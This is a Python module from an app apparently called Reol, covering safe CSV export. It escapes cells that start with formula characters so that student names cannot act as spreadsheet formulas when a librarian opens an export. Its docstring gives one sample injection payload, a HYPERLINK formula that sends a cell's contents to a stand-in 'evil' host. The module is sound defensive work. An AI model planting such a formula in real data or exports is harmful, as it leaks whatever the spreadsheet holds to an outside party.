"""CSV that is safe to open in a spreadsheet: every CSV (and XLSX) export Reol writes uses this.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a student named ``=HYPERLINK("http://evil/?"&A1,"click")``
would run when the librarian opens the export (CSV/formula injection, OWASP). Names are stored
as they were typed; the escaping happens on the way out, here: such a cell gets a leading
apostrophe, which spreadsheets show as text and hide. Numbers (``-5``, ``+45 12 34 56 78``)
are left alone, so negative amounts and phone numbers stay numbers.

    writer = csvsafe.writer(response, delimiter=";")
    writer.writerow(["Navn", "Klasse"])

Excel on a Danish or Norwegian Windows reads CSV as Windows-1252 unless the file starts with a
BOM, so ``BOM`` is what an export should write first.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"
_NUMBER = re.compile(r"[+-]?\d[\d\s.,]*")


def escape(value: Any) -> Any:
    """A cell value that no spreadsheet will run; anything but a string is returned as is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def escape_row(row: Iterable[Any]) -> list[Any]:
    return [escape(value) for value in row]


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` whose rows are escaped; the same ``writerow``/``writerows``."""

    def __init__(self, out: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` with escaped values (the header is written as given)."""

    def writerow(self, rowdict: Mapping[Any, Any]) -> Any:
        return super().writerow({k: escape(v) for k, v in rowdict.items()})
